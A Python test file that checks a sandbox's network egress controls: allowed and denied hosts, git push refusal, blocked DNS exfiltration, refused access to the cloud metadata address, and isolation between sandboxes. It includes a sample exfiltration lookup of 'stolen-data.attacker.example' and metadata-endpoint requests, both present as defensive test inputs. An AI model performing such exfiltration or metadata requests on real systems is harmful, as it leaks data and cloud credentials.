"""Real programs inside a real bottle: what works, what is refused, and what cannot get out.

Every refusal has its positive control: the same thing succeeds where it is allowed, or from a
place that is not a bottle.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from typing import Any

import pytest

from tests.support.live import LABEL, Internet, Live, docker, eventually

ALLOWED, DENIED = "api.example.org", "other.example.org"
METADATA = "169.254.169.254"
ROUTES = f"egress: {{routes: [{{host: {ALLOWED}, git: {{fetch: true}}}}]}}\n"
FETCH = """fetch(process.argv[1]).then(
  async r => console.log(JSON.stringify({status: r.status, body: await r.text()})),
  e => { console.log(String(e.cause || e)); process.exit(1); })"""
RESOLVE = """const { Resolver } = require('node:dns').promises;
const r = new Resolver({timeout: 1000, tries: 1});
if (process.argv[2]) r.setServers([process.argv[2]]);
r.resolve4(process.argv[1]).then(a => console.log(a.join(' ')),
                                 e => { console.log(e.code); process.exit(1); })"""
REACH = """const s = require('node:net').connect(+process.argv[2], process.argv[1]);
s.setTimeout(3000, () => { console.log('timeout'); process.exit(1); });
s.on('connect', () => { console.log('connected'); process.exit(0); });
s.on('error', e => { console.log(e.code); process.exit(1); })"""
SERVE = "require('node:net').createServer(s => s.end('hi')).listen(7000, '0.0.0.0')"


def ip_of(container: str, network: str = "") -> str:
    """The address of a container, in one network or its first."""
    found = json.loads(docker("inspect", container))[0]["NetworkSettings"]["Networks"]
    chosen = found[network] if network else next(iter(found.values()))
    return str(chosen["IPAddress"])


def node(live: Live, script: str, *args: str, bottle: str = "web") -> tuple[int, str]:
    """Run a script in the bottle: exit code and output."""
    quoted = " ".join(f"'{a}'" for a in args)
    done = live.shell(f"node -e \"$(cat <<'END'\n{script}\nEND\n)\" {quoted}", bottle)
    return done.returncode, (done.stdout + done.stderr).strip()


def reach(live: Live, *targets: tuple[str, int], bottle: str = "web") -> list[int]:
    """Exit codes of connecting to each, all at the same time: what is dropped takes seconds."""

    def tried(target: tuple[str, int]) -> int:
        return node(live, REACH, target[0], str(target[1]), bottle=bottle)[0]

    with ThreadPoolExecutor(len(targets)) as pool:
        return list(pool.map(tried, targets))


def curl(live: Live, *args: str, bottle: str = "web") -> tuple[str, dict[str, Any]]:
    """Status and JSON body of a request; '000' when there was no answer."""
    quoted = " ".join(f"'{a}'" for a in args)
    out = live.shell(f"curl -sS -m 10 -w '\\n%{{http_code}}' {quoted}", bottle).stdout
    body, _, status = out.rpartition("\n")
    return status, json.loads(body) if body.startswith("{") else {}


@pytest.fixture
def open_bottle(live: Live) -> Live:
    """A bottle with one plain host."""
    live.bottle(extra=ROUTES)
    live.apply()
    return live


@pytest.fixture
def listener(internet: Internet, images: str) -> Iterator[Internet]:
    """A second far side that also answers DNS, beside the first."""
    made = Internet(f"{internet.name}-b", "", internet.folder / "b")
    try:
        made.serve(images, internet.name, options=("--dns-port", "53"))
        yield made
    finally:
        docker("rm", "-f", made.name, check=False)


def from_outside(internet: Internet, script: str) -> str:
    """Python on the far side's network, outside of every bottle."""
    return docker("exec", internet.name, "python3", "-c", script, check=False)


@pytest.mark.parametrize("blind", [(), ("--noproxy", "*")], ids=["proxy", "proxy-blind"])
@pytest.mark.parametrize("version", ["--http1.1", "--http2"])
def test_curl(open_bottle: Live, blind: tuple[str, ...], version: str) -> None:
    live = open_bottle
    status, _ = curl(live, *blind, version, f"https://{ALLOWED}/echo")
    assert status == "200"
    assert len(live.internet.requests(ALLOWED)) == 1
    status, denial = curl(live, *blind, version, f"https://{DENIED}/echo")
    assert (status, denial["code"], denial["host"]) == ("403", "no-route", DENIED)
    status, denial = curl(live, *blind, f"http://{DENIED}/echo")
    assert (status, denial["code"]) == ("403", "no-route")
    assert live.internet.requests(DENIED) == []


def test_node_fetch(open_bottle: Live) -> None:
    code, out = node(open_bottle, FETCH, f"https://{ALLOWED}/echo")
    assert code == 0, out
    assert json.loads(out)["status"] == 200
    code, out = node(open_bottle, FETCH, f"https://{DENIED}/echo")
    assert json.loads(out)["status"] == 403
    assert json.loads(json.loads(out)["body"])["code"] == "no-route"
    assert open_bottle.internet.requests(DENIED) == []


def test_git_clones_where_fetching_is_allowed_and_never_pushes(open_bottle: Live) -> None:
    live = open_bottle
    done = live.shell(f"cd /tmp && git clone https://{ALLOWED}/org/repo.git")
    assert done.returncode == 0, done.stderr
    push = (
        "cd /tmp/repo && git -c user.name=a -c user.email=a@example.org"
        " commit -q --allow-empty -m x && git push origin HEAD:main"
    )
    done = live.shell(push)
    assert done.returncode != 0 and "403" in done.stderr, done.stderr
    assert "git-push" in {d["code"] for d in live.json("denials", "web")["denials"]}
    seen = live.internet.requests(ALLOWED)
    assert seen and not [r for r in seen if "receive-pack" in r["path"] + str(r["query"])]
    # Without the permission the same clone is refused.
    live.bottle(extra=f"egress: {{routes: [{{host: {ALLOWED}}}]}}\n")
    live.apply()
    done = live.shell(f"cd /tmp && git clone https://{ALLOWED}/org/repo.git again")
    assert done.returncode != 0 and "403" in done.stderr
    assert len(live.internet.requests(ALLOWED)) == len(seen)


def test_no_dns_query_leaves(open_bottle: Live, listener: Internet) -> None:
    live, far = open_bottle, ip_of(listener.name)
    own = ip_of(live.container("web", "egress"), live_network(live))
    # A name that would carry data out is answered by the sidecar and asked of nobody.
    assert node(live, RESOLVE, "stolen-data.attacker.example") == (0, own)
    code, out = node(live, RESOLVE, "stolen-data.attacker.example", far)
    assert code != 0, out
    assert listener.far.truth()["dns"] == []
    # The positive control: from outside the same query arrives.
    query = bytes.fromhex("000101000001000000000000") + b"\x04stol\x07example\0\0\1\0\1"
    from_outside(
        live.internet,
        "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5); "
        f"s.sendto({query!r}, ('{far}', 53)); s.recv(512)",
    )
    assert [q["name"] for q in listener.far.truth()["dns"]] == ["stol.example"]


def live_network(live: Live) -> str:
    """The bottle's internal network: the only one the agent is in."""
    (name,) = live.inspect()["NetworkSettings"]["Networks"]
    return str(name)


def test_a_raw_address_is_reached_by_no_way(open_bottle: Live) -> None:
    live = open_bottle
    far = ip_of(live.internet.name)
    live.internet.reset()
    code, out = node(live, REACH, far, "443")
    assert code == 1, out
    assert curl(live, "-k", "--noproxy", "*", f"https://{far}/echo")[0] == "000"
    status, denial = curl(live, "-k", f"https://{far}/echo")
    assert status == "403" and denial["code"] == "no-route"
    assert live.internet.requests() == []
    # The positive control: the address answers to the sidecar, which may use it.
    probe = f"import socket; socket.create_connection(('{far}', 443), 5); print('connected')"
    assert docker("exec", live.container("web", "egress"), "python3", "-c", probe) == "connected"


def test_metadata_is_refused_even_with_a_route_until_it_allows_private(
    live: Live, listener: Internet
) -> None:
    network = f"{listener.name}-link"
    docker("network", "create", "--internal", "--label", LABEL, "--subnet", "169.254.169.0/24",
           network)  # fmt: skip
    try:
        docker("network", "connect", "--ip", METADATA, network, listener.name)
        url = f"http://{METADATA}/latest/meta-data/"
        for extra, wanted in (("", "no-route"), (route(), "private-address"), (route(True), "")):
            live.bottle(extra=extra)
            live.apply()
            sidecar = live.container("web", "egress")
            docker("network", "connect", network, sidecar, check=False)
            status, denial = curl(live, url)
            assert denial.get("code", "") == wanted, (status, denial)
            assert len(listener.requests()) == (0 if wanted else 1)
            docker("network", "disconnect", "-f", network, sidecar, check=False)
    finally:
        docker("network", "disconnect", "-f", network, listener.name, check=False)
        docker("network", "rm", network, check=False)


def route(private: bool = False) -> str:
    """A bottle's route to the metadata address over plain HTTP."""
    extra = ", allow_private: true" if private else ""
    return f"egress: {{routes: [{{host: '{METADATA}', port: 80{extra}}}]}}\n"


def test_another_bottle_is_out_of_reach(open_bottle: Live) -> None:
    live = open_bottle
    live.agent("other")
    live.apply()
    agent, sidecar = live.container("other"), live.container("other", "egress")
    docker("exec", "-d", agent, "node", "-e", SERVE)
    inner = live.inspect("other")["NetworkSettings"]["Networks"]
    targets = [(ip_of(agent), 7000), (ip_of(sidecar, next(iter(inner))), 9099)]
    # The positive control: the bottle's own agent reaches them.
    assert eventually(lambda: reach(live, *targets, bottle="other") == [0, 0])
    assert reach(live, *targets) == [1, 1]
    for address, port in targets:
        status, denial = curl(live, f"http://{address}:{port}/")
        assert status == "403" and denial["code"] == "no-route"
    # Neither does the other's outer foot offer its proxy.
    outer = ip_of(sidecar, live.internet.name)
    probe = f"import socket\ntry: socket.create_connection(('{outer}', 9099), 3); print('open')\n"
    probe += "except OSError: print('closed')"
    assert docker("exec", live.container("web", "egress"), "python3", "-c", probe) == "closed"
